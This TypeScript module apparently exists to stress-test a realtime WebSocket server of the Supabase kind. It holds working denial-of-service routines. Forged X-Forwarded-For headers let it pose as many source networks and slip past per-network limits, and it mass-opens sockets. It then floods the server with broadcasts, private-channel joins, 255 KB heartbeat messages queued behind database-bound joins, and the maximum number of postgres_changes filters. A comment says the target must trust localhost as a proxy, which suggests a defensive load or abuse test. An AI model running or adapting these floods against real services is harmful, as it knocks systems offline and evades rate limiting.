import { once } from 'node:events';
import { setTimeout as delay } from 'node:timers/promises';
import { WebSocket } from 'ws';

/** The server that is attacked; it must trust 127.0.0.1 as a proxy, so that networks can be made up. */
export interface Attacked {
  /** Without a slash at the end. */
  readonly url: string;
  readonly publishableKey: string;
}

/** What became of attempts to open connections. */
export interface Opened {
  readonly sockets: readonly WebSocket[];
  /** How many were refused, by status; 0 when there was no answer. */
  readonly refused: ReadonlyMap<number, number>;
}

/** How many messages and bytes were given to the network, and how often the server closed a connection. */
export interface Sent {
  messages: number;
  bytes: number;
  closed: number;
}

type Attempt = WebSocket | number;

function openSocket({ url, publishableKey }: Attacked, network: string): Promise<Attempt> {
  const address = `${url.replace(/^http/, 'ws')}/realtime/v1/websocket?apikey=${publishableKey}&vsn=2.0.0`;
  const socket = new WebSocket(address, { headers: { 'X-Forwarded-For': network } });
  return new Promise((resolve) => {
    socket.once('open', () => resolve(socket));
    socket.once('unexpected-response', (request, { statusCode }) => {
      request.destroy();
      resolve(statusCode ?? 0);
    });
    socket.on('error', () => resolve(0));
  });
}

/**
 * Opens connections as fast as they are taken, fifty at a time. They stay open until `signal`.
 * @param networks each attempt comes from the next of them
 */
export async function openSockets(
  attacked: Attacked,
  networks: readonly string[],
  count: number,
  signal: AbortSignal,
): Promise<Opened> {
  const sockets: WebSocket[] = [];
  const refused = new Map<number, number>();
  signal.addEventListener('abort', () => sockets.forEach((socket) => socket.terminate()), { once: true });
  let started = 0;
  async function worker(): Promise<void> {
    while (started < count && !signal.aborted) {
      const network = networks[started % networks.length] ?? '';
      started += 1;
      const attempt = await openSocket(attacked, network);
      if (typeof attempt === 'number') refused.set(attempt, (refused.get(attempt) ?? 0) + 1);
      else if (signal.aborted) attempt.terminate();
      else sockets.push(attempt);
    }
  }
  await Promise.all(Array.from({ length: 50 }, worker));
  return { sockets, refused };
}

function message(topic: string, event: string, payload: object): string {
  return JSON.stringify(['1', '1', `realtime:${topic}`, event, payload]);
}

/** Sends a text, and resolves when the network has taken it: false when the connection is closed. */
type Send = (text: string) => Promise<boolean>;

/** Lets one connection after the other do its worst until `signal`; one that is closed or refused is opened again. */
async function keepAttacking(
  attacked: Attacked,
  network: string,
  signal: AbortSignal,
  attack: (socket: WebSocket, send: Send) => Promise<void>,
): Promise<Sent> {
  const sent: Sent = { messages: 0, bytes: 0, closed: 0 };
  while (!signal.aborted) {
    const socket = await openSocket(attacked, network);
    if (typeof socket === 'number') {
      await delay(100);
      continue;
    }
    const send: Send = (text) =>
      new Promise((resolve) => {
        if (socket.readyState !== WebSocket.OPEN) return resolve(false);
        sent.messages += 1;
        sent.bytes += text.length;
        // What the server does not take waits here: it must not fill the attacker's own memory.
        socket.send(text, (error) => resolve(!error));
        return undefined;
      });
    const stop = (): void => socket.terminate();
    signal.addEventListener('abort', stop, { once: true });
    while (!signal.aborted && socket.readyState === WebSocket.OPEN) {
      await attack(socket, send);
      await delay(1);
    }
    signal.removeEventListener('abort', stop);
    if (!signal.aborted) sent.closed += 1;
    socket.terminate();
  }
  return sent;
}

/** Broadcasts to a public channel: `bytes` a message, `perSecond` messages a second, of one connection. */
export async function broadcastFlood(
  attacked: Attacked,
  network: string,
  options: { readonly topic: string; readonly bytes: number; readonly perSecond: number },
  signal: AbortSignal,
): Promise<Sent> {
  const { topic, bytes, perSecond } = options;
  const broadcast = message(topic, 'broadcast', {
    type: 'broadcast',
    event: 'x',
    payload: 'x'.repeat(bytes),
  });
  const joined = new WeakSet<WebSocket>();
  return keepAttacking(attacked, network, signal, async (socket, send) => {
    if (!joined.has(socket)) await send(message(topic, 'phx_join', {}));
    joined.add(socket);
    await send(broadcast);
    await delay(1000 / perSecond);
  });
}

/**
 * Joins private channels, each with a name of its own, on several connections of one network, each of which joins
 * `perSecond` times a second.
 */
export async function joinFlood(
  attacked: Attacked,
  network: string,
  { connections, perSecond }: { readonly connections: number; readonly perSecond: number },
  signal: AbortSignal,
): Promise<Sent[]> {
  let topic = 0;
  return Promise.all(
    Array.from({ length: connections }, () =>
      keepAttacking(attacked, network, signal, async (_socket, send) => {
        topic += 1;
        await send(message(`join ${topic}`, 'phx_join', { config: { private: true } }));
        await delay(1000 / perSecond);
      }),
    ),
  );
}

/** Leaves large messages behind a join that waits for the database, on `connections` connections of one network. */
export async function queueFlood(
  attacked: Attacked,
  network: string,
  connections: number,
  signal: AbortSignal,
): Promise<Sent[]> {
  const heartbeat = JSON.stringify([null, '1', 'phoenix', 'heartbeat', { x: 'x'.repeat(255 * 1024) }]);
  return Promise.all(
    Array.from({ length: connections }, () =>
      keepAttacking(attacked, network, signal, async (_socket, send) => {
        await send(message('queue', 'phx_join', { config: { private: true } }));
        for (let count = 0; count < 190; count += 1) if (signal.aborted || !(await send(heartbeat))) return;
      }),
    ),
  );
}

/** Listens with as many filters as one account gets, on `connections` connections. Gives the filters it got. */
export async function filterFlood(
  attacked: Attacked,
  network: string,
  accessToken: string,
  connections: number,
  signal: AbortSignal,
): Promise<number> {
  const { sockets } = await openSockets(attacked, [network], connections, signal);
  let taken = 0;
  for (const [number, socket] of sockets.entries()) {
    const filters = Array.from({ length: 50 }, (_, index) => ({
      event: '*',
      schema: 'public',
      table: 'drivers',
      filter: `name=neq.${number}-${index}`,
    }));
    const config = { postgres_changes: filters, postgres_changes_options: { wait: true } };
    const answered = once(socket, 'message', { signal }).then(([data]) => String(data));
    socket.send(message('filters', 'phx_join', { access_token: accessToken, config }));
    if ((await answered.catch(() => '')).includes('"status":"ok"')) taken += filters.length;
  }
  return taken;
}
